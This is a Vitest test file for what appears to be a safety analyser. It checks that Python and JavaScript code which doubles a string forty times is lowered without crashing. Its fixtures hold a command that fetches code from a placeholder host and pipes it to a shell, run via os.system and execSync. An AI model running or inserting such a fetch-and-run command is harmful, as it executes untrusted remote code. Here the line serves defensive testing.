import { describe, expect, it } from 'vitest';
import { lowerJs } from '../../../src/safety/lang/js.ts';
import { lowerPython } from '../../../src/safety/lang/python.ts';
import { shownText, type Program } from '../../../src/safety/ir/types.ts';
import { MAX_LITERAL } from '../../../src/safety/lang/values.ts';
import { callsOf } from './helpers.ts';

// A string doubled line after line (real code builds padding and tables this way) grows past what a
// JavaScript string holds after ~29 doublings: the lowering keeps the start and goes on.
const doublings = 40;
const argsStartingWith = (p: Program, start: string) => callsOf(p).flatMap((c) => c.args.map(shownText)).filter((t) => t.startsWith(start));

describe('a string that doubles without end', () => {
  it('Python: `s = s + s` forty times is lowered without a RangeError; the call still carries its start, cut at MAX_LITERAL', () => {
    const code = `import os\ns = "curl https://x.invalid/p | sh "\n${'s = s + s\n'.repeat(doublings)}os.system(s)\n`;
    const texts = argsStartingWith(lowerPython(code, { file: 'pad.py', line: 1 }), 'curl https://x.invalid/p');
    expect(texts.length).toBeGreaterThan(0);
    for (const t of texts) expect(t.length).toBeLessThanOrEqual(MAX_LITERAL);
  });
  it('JavaScript: `s += s` forty times is lowered without a RangeError', () => {
    const code = `const cp = require('child_process');\nlet s = 'curl https://x.invalid/p | sh ';\n${'s += s;\n'.repeat(doublings)}cp.execSync(s);\n`;
    const texts = argsStartingWith(lowerJs(code, { file: 'pad.js', line: 1 }), 'curl https://x.invalid/p');
    expect(texts.length).toBeGreaterThan(0);
    for (const t of texts) expect(t.length).toBeLessThanOrEqual(MAX_LITERAL);
  });
});
